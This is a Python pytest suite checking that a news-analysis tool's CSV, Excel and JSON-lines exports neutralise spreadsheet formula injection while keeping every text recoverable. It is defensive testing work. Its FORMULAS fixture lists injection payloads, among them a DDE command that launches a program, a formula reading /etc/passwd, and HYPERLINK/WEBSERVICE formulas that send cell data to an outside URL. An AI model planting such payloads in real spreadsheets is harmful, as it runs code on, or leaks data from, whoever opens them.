"""No cell of a table is run as a formula, in any spreadsheet, and every text can be had back as it was."""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile
from pathlib import Path
from xml.etree import ElementTree

import pandas as pd
import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook
from payloads import readings_of

from analysis.__main__ import main
from analysis.compare import Decisions, compare, read_decisions, save_decisions
from analysis.compare.decisions import FILE
from analysis.export import save_selection, save_table
from analysis.export_tables import csv_bytes, jsonl_bytes, xlsx_bytes
from analysis.news import since_last_run
from analysis.widgets.comparison_view import save_comparison
from analysis.writing import guarded, unguarded

# by the trick; each would be run, alone in a cell or where a cell is parted
FORMULAS: dict[str, str] = {
    "equals": "=1+1",
    "plus": "+1+1",
    "minus": "-1+1",
    "minus before words": "-5 degrees",
    "at": "@SUM(1,1)",
    "a program": "=cmd|' /C calc'!A0",
    "a link": '=HYPERLINK("https://example.org/?"&A1,"forty")',
    "a link without quotes": "=HYPERLINK(A1)",
    "a file": "='file:///etc/passwd'#$passwd.A1",
    "a service": '=WEBSERVICE("https://example.org/"&A1)',
    "plus and a program": "+cmd|' /C calc'!A0",
    "minus and a program": "-2+3+cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "carriage return": "\r=1+1",
    "new line": "\n=1+1",
    "tab alone": "\tforty",
    "blanks": "   =1+1",
    "no-break space": "\xa0=1+1",
    "wide space": "\u3000=1+1",
    "space that nobody sees": "\u200b=1+1",
    "byte order mark": "\ufeff=1+1",
    "control sign": "\x01=1+1",
    "null byte": "\x00=1+1",
    "wide equals": "＝1+1",
    "wide plus": "＋1+1",
    "wide minus": "－1+1",
    "wide at": "＠SUM(1)",
    "quote": '"=1+1"',
    "apostrophe": "'=1+1",
    "apostrophes": "''=1+1",
    "quote and blank": '" =1+1',
    "closed quote": 'forty"\n=1+1',
    "closed quote and comma": 'forty",=1+1,"',
    "semicolon": "forty;=1+1",
    "semicolon and blank": "forty; =1+1",
    "semicolon and quote": 'forty;"=1+1"',
    "tab inside": "forty\t=1+1",
    "bar": "forty|=1+1",
    "new line inside": "forty\n=1+1",
    "return inside": "forty\r+1+1",
    "many": "forty;-1;+1\n@1\t=1",
    "a head of its own": "sep=;\n=1+1",
}
STARTS = "=+-@\t\r\n＝＋－＠"
WORDS = st.text(alphabet=st.one_of(st.sampled_from(" =+-@\t\r\n;|,\"'＝a1\xa0"), st.characters(codec="utf-8")))
XLSX = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"


def written_out(folder: Path, words: list[str]) -> list[Path]:
    """Every table that the workbook writes, of readings in which the words stand in every field."""
    found = readings_of(words)
    comparison = compare(found.table, found.silences)
    saved = save_comparison(comparison, folder)
    for name, table in (
        ("claims", found.table),
        ("passed-over", found.passed_over),
        ("who-is-silent", found.silences),
        ("compared", comparison.claims),
        ("found-subjects", comparison.groups),
        ("found-conflicts", comparison.conflicts),
        ("found-revisions", comparison.revisions),
    ):
        saved += save_selection(table, None, folder, name, formats=("csv", "xlsx", "jsonl"))
    decisions = Decisions()
    for text in words:
        decisions = decisions.decide("group", f"{text} one", f"{text} two").decide("source", [text], f"{text} three")
    since_last_run(found, folder)
    return [*saved, save_decisions(folder, decisions), folder / "reviews" / "last_read.csv"]


@pytest.fixture(scope="module")
def saved(tmp_path_factory: pytest.TempPathFactory) -> list[Path]:
    return written_out(tmp_path_factory.mktemp("saved"), list(FORMULAS.values()))


def rows_of(path: Path, delimiter: str = ",", quoting: int = csv.QUOTE_MINIMAL) -> list[list[str]]:
    text = io.StringIO(path.read_bytes().decode("utf-8"), newline="")
    return list(csv.reader(text, delimiter=delimiter, quoting=quoting))


def runs(cell: str) -> bool:
    """Whether a spreadsheet might run a cell, after it has trimmed it and taken its quotes away."""
    return cell.strip(' \xa0\u3000\u200b\ufeff\x00\x01"')[:1] in tuple(STARTS) and not _is_number(cell)


def _is_number(cell: str) -> bool:
    return re.fullmatch(r"-?\d+(\.\d+)?(e[+-]?\d+)?", cell) is not None


def text_of(path: Path) -> list[str]:
    """The texts of a workbook as a spreadsheet shows them: "_x000D_" is a carriage return."""
    with zipfile.ZipFile(path) as parts:
        root = ElementTree.fromstring(parts.read("xl/sharedStrings.xml"))
    texts = ("".join(part.text or "" for part in item.iter(f"{XLSX}t")) for item in root.iter(f"{XLSX}si"))
    return [re.sub("_x([0-9A-F]{4})_", lambda match: chr(int(match[1], 16)), text) for text in texts]


def test_every_kind_of_table_is_looked_at(saved: list[Path]) -> None:
    names = {path.name for path in saved}
    assert {"subjects.csv", "conflicts.csv", "revisions.csv", "silences.csv", FILE.name, "last_read.csv"} <= names
    assert len(names) == 6 + 7 * 3
    assert all(len(rows_of(path)) > len(FORMULAS) / 2 for path in saved if path.suffix == ".csv")


# a comma with quotes is what the file is; the others are what a spreadsheet of another country makes of it
@pytest.mark.parametrize(
    ("delimiter", "quoting"),
    [(",", csv.QUOTE_MINIMAL), (";", csv.QUOTE_NONE), ("\t", csv.QUOTE_NONE), ("|", csv.QUOTE_NONE)],
    ids=["comma", "semicolon", "tab", "bar"],
)
def test_no_cell_of_a_csv_is_run_wherever_it_is_parted(saved: list[Path], delimiter: str, quoting: int) -> None:
    for path in saved:
        if path.suffix == ".csv":
            cells = [cell for row in rows_of(path, delimiter, quoting) for cell in row]
            assert [cell for cell in cells if runs(cell)] == [], path.name


def test_pandas_reads_the_words_as_they_were(saved: list[Path]) -> None:
    path = next(path for path in saved if path.name == "claims.csv")
    table = pd.read_csv(path, keep_default_na=False)
    assert set(map(unguarded, table["counted"])) == {text.replace("\x00", "\ufffd") for text in FORMULAS.values()}
    assert set(table["low"]) == {100, 300, 5000} and table["value"].dtype.kind in "if"


def test_every_text_of_a_workbook_is_text_and_stays_so_when_somebody_edits_it(saved: list[Path]) -> None:
    for path in (path for path in saved if path.suffix == ".xlsx"):
        sheet = load_workbook(path).active
        for cell in (cell for row in sheet.iter_rows(min_row=2) for cell in row if isinstance(cell.value, str)):
            assert cell.data_type == "s" and not cell.hyperlink
            assert cell.quotePrefix or not runs(cell.value), (path.name, cell.coordinate)
        with zipfile.ZipFile(path) as parts:
            assert b"<f>" not in parts.read("xl/worksheets/sheet1.xml")


def test_workbooks_and_json_lines_hold_the_words_untouched(saved: list[Path]) -> None:
    for path in saved:
        if path.name == "claims.xlsx":
            assert {re.sub("[\x00\x01]", "\ufffd", text) for text in FORMULAS.values()} <= set(text_of(path))
        elif path.name == "claims.jsonl":
            told = [json.loads(line) for line in path.read_bytes().decode("utf-8").split("\n")[:-1]]
            assert {row["counted"] for row in told} == set(FORMULAS.values())


def test_decisions_are_read_as_they_were_made(saved: list[Path]) -> None:
    (path,) = (path for path in saved if path.name == FILE.name)
    kept = {" ".join(text.replace("\x00", "\ufffd").split()) for text in FORMULAS.values()}
    assert set(read_decisions(path.parents[1]).sources) == kept


def test_what_was_read_is_known_again_whatever_the_files_are_called(tmp_path: Path) -> None:
    found = readings_of([text for text in FORMULAS.values() if "\x00" not in text])  # no name holds that
    since_last_run(found, tmp_path)
    assert since_last_run(found, tmp_path).inventory["news"].isna().all()


def test_numbers_stay_numbers(tmp_path: Path) -> None:
    table = pd.DataFrame({"value": [-5.0, 0.5, -1e-7], "quote": ["minus five", "-5", "+5"]})
    assert save_table(table, tmp_path / "a.csv").read_text() == "value,quote\n-5,minus five\n0.5,'-5\n-1e-07,'+5\n"
    sheet = load_workbook(save_table(table, tmp_path / "a.xlsx")).active
    assert [sheet.cell(row, 1).data_type for row in (2, 3, 4)] == ["n"] * 3
    assert [sheet.cell(row, 1).value for row in (2, 3, 4)] == [-5, 0.5, -1e-7]
    told = [json.loads(line) for line in save_table(table, tmp_path / "a.jsonl").read_text().splitlines()]
    assert [row["value"] for row in told] == [-5, 0.5, -1e-7]


@given(WORDS)
@settings(max_examples=300, deadline=None)
@example("\n\n=1")
@example("'\t'=1")
@example(";';'=1")
def test_what_was_guarded_can_be_had_back(text: str) -> None:
    cell = guarded(text)
    assert unguarded(cell) == text
    assert not any(runs(part) for part in re.split(r"[;|\t\r\n]", cell)) and cell[:1] not in tuple("=+-@\t\r\n")
    assert cell.replace("'", "") == text.replace("'", "")


@given(st.lists(WORDS.filter(bool), min_size=1, max_size=8))
@settings(max_examples=40, deadline=None)
@example(["_x0041_", "a\r\nb", "\r\n\t"])
def test_any_words_come_back_from_every_format(words: list[str]) -> None:
    table = pd.DataFrame({"quote": words, "value": range(len(words))})
    text = io.StringIO(csv_bytes(table).decode("utf-8"), newline="")
    cells = [row["quote"] for row in csv.DictReader(text)]
    assert list(map(unguarded, cells)) == [word.replace("\x00", "\ufffd") for word in words]
    lines = jsonl_bytes(table).decode("utf-8").split("\n")[:-1]
    assert [json.loads(line)["quote"] for line in lines] == words
    file = io.BytesIO(xlsx_bytes(table))
    held = [re.sub("[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]", "\ufffd", word) for word in words]
    assert set(held) <= set(text_of(file))  # type: ignore[arg-type]
    sheet = load_workbook(file).active
    assert {cell.data_type for (cell,) in sheet.iter_rows(min_row=2, max_col=1)} == {"s"}


def test_half_a_letter_and_signs_that_no_file_holds_stop_nothing() -> None:
    words = ["\ud800", "\udc00=1", "\ufffe", "\uffff", "".join(map(chr, range(32)))]
    table = pd.DataFrame({"quote": pd.Series(words, dtype="object")})
    told = [json.loads(line)["quote"] for line in jsonl_bytes(table).decode("utf-8").split("\n")[:-1]]
    assert told == words
    assert csv_bytes(table).decode("utf-8").startswith("quote\n\\ud800\n")
    assert len(load_workbook(io.BytesIO(xlsx_bytes(table))).active["A"]) == 6


@pytest.mark.parametrize("words", ["x" * 40_000, "🙂" * 20_000, "=" * 40_000], ids=["letters", "emoji", "formula"])
def test_a_text_too_long_for_a_cell_is_cut_with_an_ellipsis_in_a_workbook_alone(words: str, tmp_path: Path) -> None:
    table = pd.DataFrame({"quote": [words], "claim": ["a"]})
    cell = load_workbook(save_table(table, tmp_path / "long.xlsx")).active["A2"]
    assert cell.value.endswith("…") and len(cell.value.encode("utf-16-le")) // 2 <= 32_767
    assert cell.value[:-1] == words[: len(cell.value) - 1] and cell.data_type == "s"
    csv.field_size_limit(131_072)
    assert unguarded(rows_of(save_table(table, tmp_path / "long.csv"))[1][0]) == words
    assert json.loads(save_table(table, tmp_path / "long.jsonl").read_text(encoding="utf-8"))["quote"] == words


def test_the_command_line_disarms_what_an_article_says(tmp_path: Path) -> None:
    (tmp_path / "a.txt").write_text("Outlet: =cmd()\nTitle: +1\n\n=cmd() said 40 lorries were stuck.\n")
    for suffix in ("csv", "xlsx"):
        outputs = [tmp_path / f"{name}.{suffix}" for name in ("claims", "passed", "silences")]
        options = ["--output", outputs[0], "--passed-over", outputs[1], "--silences", outputs[2]]
        assert main(["extract", str(tmp_path / "a.txt"), *map(str, options)]) == 0
    assert not any(runs(cell) for path in tmp_path.glob("*.csv") for row in rows_of(path) for cell in row)
    for path in tmp_path.glob("*.xlsx"):
        assert "f" not in {cell.data_type for row in load_workbook(path).active.iter_rows() for cell in row}


def test_guarding_takes_time_in_proportion_to_the_text() -> None:
    for text in (" " * 200_000, ";" * 200_000, "; " * 100_000, "\n\t" * 100_000, '"' * 200_000):
        assert unguarded(guarded(text)) == text
